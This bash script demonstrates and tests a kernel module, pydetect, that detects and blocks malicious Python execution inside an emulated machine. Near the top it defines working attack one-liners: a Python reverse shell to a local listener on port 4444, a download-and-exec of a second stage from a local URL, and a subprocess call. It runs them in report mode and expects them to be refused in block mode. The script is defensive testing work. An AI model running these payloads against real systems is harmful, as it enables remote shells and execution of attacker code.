#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-only
#
# The demonstration, inside the emulated machine. Every step checks what it
# tells; the first thing that did not happen ends the story with status 1.

set -euo pipefail
cd /tmp

REVERSE_SHELL='import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
DOWNLOAD='import urllib.request;exec(urllib.request.urlopen("http://127.0.0.1:8080/stage2").read())'
COMMAND='import subprocess;print(subprocess.Popen(["id"],stdout=subprocess.PIPE).communicate()[0].decode())'

bold() {
	if [[ -n ${BOLD:-} ]]; then
		printf '\n\033[1m%s\033[0m\n' "$*"
	else
		printf '\n== %s\n' "$*"
	fi
}

tell() {
	printf '   %s\n' "$@"
}

broken() {
	printf '\nTHIS DID NOT HAPPEN: %s\n' "$*"
	exit 1
}

# wait_for WHAT COMMAND...: until the command succeeds, at most ten seconds.
wait_for() {
	local what=$1 tries
	shift
	for ((tries = 0; tries < 100; tries++)); do
		"$@" && return
		sleep 0.1
	done
	broken "$what"
}

alerts() {
	grep -c '"event"' alerts.json || true
}

alerts_are() {
	(($(alerts) == $1))
}

# The last alert: one line for people, and proof that it says what it has to.
show_alert() {
	local verdict=$1 label=$2 text=$3
	# Not as an argument: it would be an attack of its own.
	tail -n 1 alerts.json | TEXT=$text python3 /demo/check_alert.py \
		"$verdict" "$label" || broken "an alert with $label"
	sed -n "$((shown + 1)),\$p" alerts.txt | sed 's/^/   | /'
	shown=$(wc -l <alerts.txt)
}

# attack VERDICT LABEL TITLE CODE: runs Python as an attacker would.
attack() {
	local verdict=$1 label=$2 title=$3 code=$4 status=0 before
	before=$(alerts)
	bold "$title"
	tell "# python3 -c '$code'"
	python3 -c "$code" >attack.log 2>&1 || status=$?
	wait_for 'an alert within ten seconds' alerts_are $((before + 1))
	wait_for 'an alert in text' text_follows
	sed '/^ /d; /^$/d; s/^/   /' attack.log | tail -n 2
	show_alert "$verdict" "$label" "$code"
	if [[ $verdict == deny ]]; then
		((status == 126)) || broken 'the shell was refused the exec'
		grep -q 'Operation not permitted' attack.log ||
			broken '"Operation not permitted"'
	fi
}

text_follows() {
	(($(wc -l <alerts.txt) > shown))
}

connections() {
	grep -c '^connected' listener.log || true
}

listener_heard_id() {
	grep -q 'uid=0(root)' listener.log
}

prepare() {
	bold "The module, the rules, and somebody who listens"
	tell '# insmod pydetect.ko'
	insmod /demo/pydetect.ko
	tell '# pydetectctl load rules'
	pydetectctl load /demo/rules | sed 's/^/   /'
	pydetectctl status | sed 's/^/   /'
	pydetectctl monitor >alerts.txt 2>monitor.log &
	pydetectctl monitor --json >alerts.json 2>monitor-json.log &
	wait_for 'a monitor that listens' grep -q listening monitor.log
	wait_for 'a monitor that listens' grep -q listening monitor-json.log
	python3 /demo/listener.py >listener.log 2>&1 &
	wait_for 'a listener on 127.0.0.1:4444' grep -q listening listener.log
}

report_mode() {
	bold "REPORT MODE: attacks go through, and are reported"
	attack report ReverseShell 'A reverse shell' "$REVERSE_SHELL"
	wait_for 'a shell for the attacker' listener_heard_id
	tell 'The attacker got a shell: it answered "id" with uid=0(root).'
	attack report DownloadExec 'Download and execute' "$DOWNLOAD"
	attack report SubprocessExec 'A command from Python' "$COMMAND"
	grep -q 'uid=0(root)' attack.log || broken 'the command ran'
}

block_mode() {
	local before
	bold "BLOCK MODE: the same three never start"
	tell '# pydetectctl mode block'
	pydetectctl mode block | sed 's/^/   /'
	before=$(connections)
	attack deny ReverseShell 'A reverse shell' "$REVERSE_SHELL"
	attack deny DownloadExec 'Download and execute' "$DOWNLOAD"
	attack deny SubprocessExec 'A command from Python' "$COMMAND"
	(($(connections) == before)) || broken 'the listener was left alone'
	tell '' 'The listener heard nothing.'
}

harmless() {
	local before
	bold "What is harmless still runs"
	before=$(alerts)
	tell "# python3 -c 'print(6 * 7)'"
	[[ $(python3 -c 'print(6 * 7)') == 42 ]] || broken 'Python answered 42'
	tell 42 '# sh backup.sh'
	cat >backup.sh <<-'END'
		#!/bin/sh
		echo "saved $(ls / | wc -l) directories"
	END
	chmod +x backup.sh
	./backup.sh >backup.log || broken 'the shell script ran'
	sed 's/^/   /' backup.log
	(($(alerts) == before)) || broken 'no further alert'
}

leave() {
	bold "Away without a trace"
	tell '# pydetectctl rules'
	pydetectctl rules | sed 's/^/   /'
	kill %1 %2 %3
	wait || true
	tell '# rmmod pydetect'
	rmmod pydetect
	python3 -c "$COMMAND" >/dev/null || broken 'everything runs again'
}

shown=0
prepare
report_mode
block_mode
harmless
leave
bold "Everything above happened."
